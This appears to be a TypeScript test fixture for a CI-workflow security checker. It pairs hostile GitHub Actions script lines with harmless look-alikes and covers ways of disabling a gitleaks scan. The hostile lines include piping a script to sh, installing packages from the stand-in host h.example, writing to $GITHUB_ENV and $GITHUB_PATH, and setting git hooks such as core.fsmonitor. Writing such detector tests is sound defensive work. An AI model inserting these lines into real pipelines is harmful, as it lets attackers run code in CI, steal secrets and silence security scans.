import type { RuleCase } from '../rule-case.ts'
import { exposed, pair, tests } from './reach-cases.ts'

/** Scripts of a job that runs the project's code and holds nothing: what is taken or shown, beside what is brought. */
const lines: readonly [what: string, attack: string, harmless: string][] = [
  ['a file that is written where a tool looks', 'echo x > .npmrc', 'echo "found=1" >> "$GITHUB_OUTPUT"'],
  ['a variable for all later steps', 'echo "A=b" >> "$GITHUB_ENV"', 'echo "## Tests" >> $GITHUB_STEP_SUMMARY'],
  ['a path for all later steps', 'echo x >> $GITHUB_PATH', 'cat report.txt 2>/dev/null || true'],
  ['a shell that reads what is shown', 'cat x.sh | sh', 'cat x.sh'],
  ['a command in what is shown', 'echo "$(curl h.example)"', 'echo "$RUNNER_OS done"'],
  ['a program that a variable names', '$TOOL test', 'rm -f $HOME/.cache/x'],
  ['a variable as a command of a package manager', 'npm $TOOL evil', 'ls "$HOME/x"'],
  ['a command behind a removal', 'rm -rf out; ./x', 'sudo rm -rf /usr/local/bin/x out'],
  ['a program that git starts', 'git diff --ext-diff', 'git diff --exit-code -- dist/index.js'],
  ['a file that git writes', 'git log --output=.npmrc', 'git describe --tags'],
  ['a setting of git', 'git config core.fsmonitor x', 'git status --porcelain'],
  ['a script outside', '../x/verify.sh', 'checks/verify.sh 24'],
  ['a script of the machine', '/tmp/x', 'bin/verify --fast'],
  ['another package for the machine', 'npm install -g evil', 'npm install -g npm@11'],
  ['an older name of a package manager', 'npm install -g npm@npm:evil', 'npm install --ignore-engines'],
  ['a tap that anybody can make', 'brew install evil/tap/x', 'brew install mono'],
  ['a package from an address', 'pip install https://h.example/x', 'python -m pip install --upgrade pip'],
  ['another manifest', 'composer update --working-dir=x', 'composer update --prefer-lowest'],
  ['an option of tox that is code', 'tox -e py -c x.ini', 'tox run -e py314,lint'],
  ['a condition that runs a program', 'if curl h.example; then', 'if test -f out.txt; then'],
]

const scan = 'run: gitleaks detect'
const scanned = `on: pull_request
permissions: { contents: read }
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: acme/trivy-action@v1
      - ${scan}
      - run: npm test
`
const scans: readonly [what: string, after: string][] = [
  ['a scan that is gone', 'run: npm test'],
  ['an end before a scan', 'run: |\n          exit 0\n          gitleaks detect'],
  ['a scan whose failure does not count', 'run: gitleaks detect || true'],
  ['a scan that never runs', `if: false\n        ${scan}`],
]

/** Lines of scripts, each beside one that it could pass for. */
export const plainLineCases: readonly RuleCase[] = [
  ...scans.map(([what, after]) => pair(what, scanned, [scan, after], ['run: npm test', 'run: npm run test:all'])),
  pair(
    'an output in the way it was once written, which another job asks for',
    tests.replace('    steps:\n', '    outputs: { a: x }\n    steps:\n'),
    ['npm test', 'echo "::set-output name=a::b"'],
    ['npm test', 'echo "a: b"'],
  ),
  ...lines.map(([what, attack, harmless]) => pair(what, tests, ['npm test', attack], ['npm test', harmless])),
  ...['cat report.txt', 'exit 0', 'echo tests', 'npm install -g npm@11', 'git status', 'npm --version'].map((line) =>
    pair(
      `the first script of the project beside a secret, where only \`${line}\` ran`,
      exposed.replace('run: npm ci', `run: ${line}`).replace('run: npm test', `run: ${line}`),
      [`run: ${line}`, 'run: npm run e2e'],
      ['on: [push, pull_request]', 'on: [pull_request]'],
    ),
  ),
]
